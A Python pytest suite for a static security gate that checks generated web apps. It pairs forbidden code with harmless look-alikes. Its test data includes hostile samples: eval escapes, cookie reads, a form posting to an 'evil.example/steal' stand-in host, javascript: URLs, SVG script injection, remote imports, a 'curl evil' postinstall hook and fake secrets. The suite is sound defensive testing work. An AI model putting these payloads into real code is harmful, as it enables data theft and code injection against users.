"""The static gate: each rule has code that breaks it, and code of the same look that is allowed."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator

import pytest

from processors.toolchain.build import build
from processors.toolchain.compilers import Compilers
from processors.toolchain.findings import Finding
from processors.toolchain.node import Toolchain
from processors.validate import static
from processors.validate.html import check_page
from processors.validate.lexer import LexError, Token, tokens
from processors.validate.policy import ValidationPolicy

RUNNER, COMPILERS = asyncio.Runner(), Compilers(Toolchain())


@pytest.fixture(scope="module", autouse=True)
def _compilers() -> Iterator[None]:
    """Warm for all tests here."""
    yield
    RUNNER.run(COMPILERS.close())
    RUNNER.close()


def found(files: dict[str, bytes]) -> list[Finding]:
    code = RUNNER.run(build(files, COMPILERS, typecheck=False, transpile=True)).code
    return static.check(files, code, ValidationPolicy())


def rules(files: dict[str, bytes]) -> set[str]:
    return {f.rule for f in found(files) if f.severity == "error"}


def test_a_plain_application_has_no_findings(app: dict[str, bytes]) -> None:
    assert found(app) == []


BAD = {
    "eval('1')": "static.forbidden",
    "window.eval('1')": "static.forbidden",
    "globalThis['eval']('1')": "static.forbidden",
    "(0, eval)('1')": "static.forbidden",
    "\\u0065val('1')": "static.forbidden",
    "new Function('return 1')()": "static.forbidden",
    "[].map.constructor('return 1')()": "static.forbidden",
    "[]['map']['constructor']('return 1')()": "static.forbidden",
    "setTimeout('alert(1)', 1)": "static.forbidden",
    "document.write('x')": "static.forbidden",
    "document.cookie": "static.forbidden",
    "document.body.innerHTML = '<b>x</b>'": "static.forbidden",
    "document.body['innerHTML'] = '<b>x</b>'": "static.forbidden",
    "document.body.insertAdjacentHTML('beforeend', 'x')": "static.forbidden",
    "<div dangerouslySetInnerHTML={{ __html: 'x' }} />": "static.forbidden",
    "<iframe srcDoc='x' />": "static.forbidden",
    "document.createElement('script')": "static.forbidden",
    "fetch('/api')": "static.forbidden",
    "window.fetch('/api')": "static.forbidden",
    "new XMLHttpRequest()": "static.forbidden",
    "new WebSocket('wss://x.example')": "static.forbidden",
    "new EventSource('/x')": "static.forbidden",
    "navigator.sendBeacon('/x')": "static.forbidden",
    "new Worker('/x.js')": "static.forbidden",
    "navigator.serviceWorker.register('/x.js')": "static.forbidden",
    "new RTCPeerConnection()": "static.forbidden",
    "window.open('/x')": "static.forbidden",
    "(({} as any).__proto__.x = 1)": "static.forbidden",
    "<img src='https://evil.example/pixel.gif' alt='' />": "static.address",
    "<img src='//evil.example/pixel.gif' alt='' />": "static.address",
    "<form action='https://evil.example/steal' />": "static.address",
    "<a href='javascript:alert(1)'>x</a>": "static.address",
    "<a href={' jAvaScript:alert(1)'}>x</a>": "static.address",
    "(location.href = 'https://evil.example')": "static.address",
    "location.assign('https://evil.example')": "static.address",
    "import('https://evil.example/x.js')": "static.import",
    "import('left-pad')": "static.import",
    "import('left' + '-pad')": "static.import",
    "require('fs')": "static.import",
}


@pytest.mark.parametrize("expression", BAD)
def test_forbidden_code_is_found(expression: str, app: dict[str, bytes]) -> None:
    app["src/extra.tsx"] = f"// one\n// two\nexport const x: any = () => {expression};\n".encode()
    errors = [f for f in found(app) if f.severity == "error"]
    assert BAD[expression] in {f.rule for f in errors}
    assert all(f.file == "src/extra.tsx" for f in errors)


@pytest.mark.parametrize(
    "statement",
    ["import x from 'left-pad'", "import 'node:fs'", "export * from 'lodash'", "export { x } from 'lodash/fp'", "import x from '@evil/react'", "import * as x from 'axe-core'", "import x from 'react-dom-evil'", "import x from '/etc/passwd'"],
)  # fmt: skip
def test_imports_from_elsewhere_are_found(statement: str, app: dict[str, bytes]) -> None:
    app["src/extra.ts"] = f"{statement};\nexport const y = typeof x;\n".encode()
    assert "static.import" in rules(app)


GOOD = [
    "'eval(1) and fetch(url) and new Function(x)'",
    "<p>Don't use eval() or document.write(), it's dangerous; fetch('/x') neither</p>",
    "<p>See https://example.com/docs and http://127.0.0.1:8814/parks</p>",
    "<a href='https://example.com/docs'>docs</a>",
    "'javascript: the good parts'",
    "`a ${1 / 2} // not a comment ${'`'} https://x.example`",
    "[/[/'\"]eval\\(/.test('x'), 4 / 2 / 1]",
    "({ fetch: 1, Function: 2, eval: 3, Worker: 4 })",
    "repository.fetch()",
    "class { constructor() {} }",
    "createClient('https://abc.supabase.co', 'anon')",
    "(/* eval('x') */ 1)",
    "setTimeout(() => 1, 10)",
    "import('./App')",
]


@pytest.mark.parametrize("expression", GOOD)
def test_text_and_ordinary_names_are_left_alone(expression: str, app: dict[str, bytes]) -> None:
    app["src/extra.tsx"] = f"declare const repository: any, createClient: any;\nexport const x: any = {expression};\n".encode()
    assert rules(app) == set()


def test_tests_and_scripts_may_import_their_tools_only(app: dict[str, bytes]) -> None:
    app["tests/app.spec.ts"] = b"import { test } from '@playwright/test';\ntest('x', async ({ page }) => { await page.goto('/'); });\n"
    app["build.mjs"] = b"import { readFileSync } from 'node:fs';\nimport { build } from 'esbuild';\nbuild(readFileSync);\n"
    assert rules(app) == set()
    app["build.mjs"] += b"import 'node:child_process';\n"
    assert rules(app) == {"static.import"}


FILES = {
    ".env": (b"KEY=1", "static.files"),
    ".npmrc": (b"ignore-scripts=false", "static.files"),
    "run.sh": (b"#!/bin/sh", "static.files"),
    "src/evil.wasm": (b"\0asm", "static.files"),
    "../out.ts": (b"", "static.files"),
    "public/pic.svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "static.svg"),
    "public/on.svg": (b'<svg onload="alert(1)"/>', "static.svg"),
    "public/href.svg": (b'<svg><image href="https://evil.example/x.png"/></svg>', "static.svg"),
    "src/a.css": (b"@import url(https://evil.example/x.css);", "static.style"),
    "src/b.css": (b"p { background: url( 'https://evil.example/x.png') }", "static.style"),
    "src/c.css": (b"p { background: url(//evil.example/x.png) }", "static.style"),
    "src/hush.ts": (b"// @ts-nocheck\nexport const x: number = 'a';\n", "static.suppressed"),
    "src/key.ts": (b"export const k = 'AKIAIOSFODNN7EXAMPLE';\n", "static.secret"),
    "src/pem.ts": (b"export const k = `-----BEGIN RSA PRIVATE KEY-----`;\n", "static.secret"),
    "src/db.ts": (b"export const k = 'postgres://app:hunter2@db.example/x';\n", "static.secret"),
    "src/gh.ts": (b"export const k = 'ghp_" + b"a1" * 18 + b"';\n", "static.secret"),
    "package.json": (b'{"dependencies": {"left-pad": "1.0.0"}}', "static.dependency"),
}


@pytest.mark.parametrize("name", FILES)
def test_files_that_do_not_belong_are_found(name: str, app: dict[str, bytes]) -> None:
    content, rule = FILES[name]
    errors = (
        [f for f in found({**app, name: content}) if f.severity == "error"]
        if ".." not in name
        else static.check({**app, name: content}, {}, ValidationPolicy())
    )
    assert rule in {f.rule for f in errors}


@pytest.mark.parametrize("manifest", [b"[]", b"{", b"null", b'{"dependencies": {"react": "file:../evil"}}', b'{"dependencies": {"react": "git+https://evil.example/x"}}', b'{"scripts": {"postinstall": "curl evil"}}', b'{"overrides": {"react": {"evil": "1"}}}', b'{"bundledDependencies": ["evil"]}'])  # fmt: skip
def test_manifests_that_run_or_fetch_something_are_found(manifest: bytes, app: dict[str, bytes]) -> None:
    assert rules({**app, "package.json": manifest}) & {"static.manifest", "static.dependency", "static.hook"}


PAGES = {
    "inline script": (b"</body>", b"<script>alert(1)</script></body>"),
    "two scripts": (b"</body>", b'<script src="/x.js"></script></body>'),
    "handler": (b"<body>", b'<body onload="alert(1)">'),
    "frame": (b"</body>", b'<iframe src="/x"></iframe></body>'),
    "base": (b"<title>", b'<base href="https://evil.example/"><title>'),
    "refresh": (b"<title>", b'<meta http-equiv="refresh" content="0; url=https://evil.example"><title>'),
    "style sheet elsewhere": (b"<title>", b'<link rel="stylesheet" href="https://evil.example/x.css"><title>'),
    "no root": (b'id="root"', b'id="other"'),
    "form": (b"</body>", b"<form></form></body>"),
}


@pytest.mark.parametrize("case", PAGES)
def test_pages_that_do_more_are_found(case: str, app: dict[str, bytes]) -> None:
    old, new = PAGES[case]
    assert app["index.html"].count(old) == 1
    assert rules({**app, "index.html": app["index.html"].replace(old, new)}) == {"static.html"}


def test_a_page_that_is_not_whole_is_warned_of() -> None:
    said = check_page(b'<div id="root"></div><script type="module" src="/src/main.tsx"></script>', ValidationPolicy())
    assert len(said) == 5 and all(f.severity == "warning" for f in said)


def test_lines_are_those_of_the_source(app: dict[str, bytes]) -> None:
    app["src/extra.tsx"] = b"interface A { x: 1 }\n\n\nexport const y = (a: A) => eval(String(a));\n"
    assert [(f.rule, f.line) for f in found(app)] == [("static.forbidden", 4)]


@pytest.mark.parametrize(
    ("source", "kinds"),
    [
        ("a = b / c / d;", "name mark name mark name mark name mark"),
        ("a = /b/c.d;", "name mark regex mark name mark"),
        ("x = `a${b + `c${d}`}e`;", "name mark template name mark template name mark template mark template mark"),
        ('if (x)\n  / "/.test(y);', "name mark name mark regex mark name mark name mark mark"),
        ("return /'/.y", "name regex mark name"),
    ],
)
def test_tokens(source: str, kinds: str) -> None:
    assert [t.kind for t in tokens(source)] == kinds.split()


def test_strings_are_read_as_they_mean() -> None:
    assert tokens(r'"\u0065\x76\u{61}l\n"') == [Token("string", "eval\n")]


@pytest.mark.parametrize("source", ['"abc', "`abc", "`a${b", "x = /abc"])
def test_what_does_not_end_is_said(source: str) -> None:
    with pytest.raises(LexError):
        tokens(source)
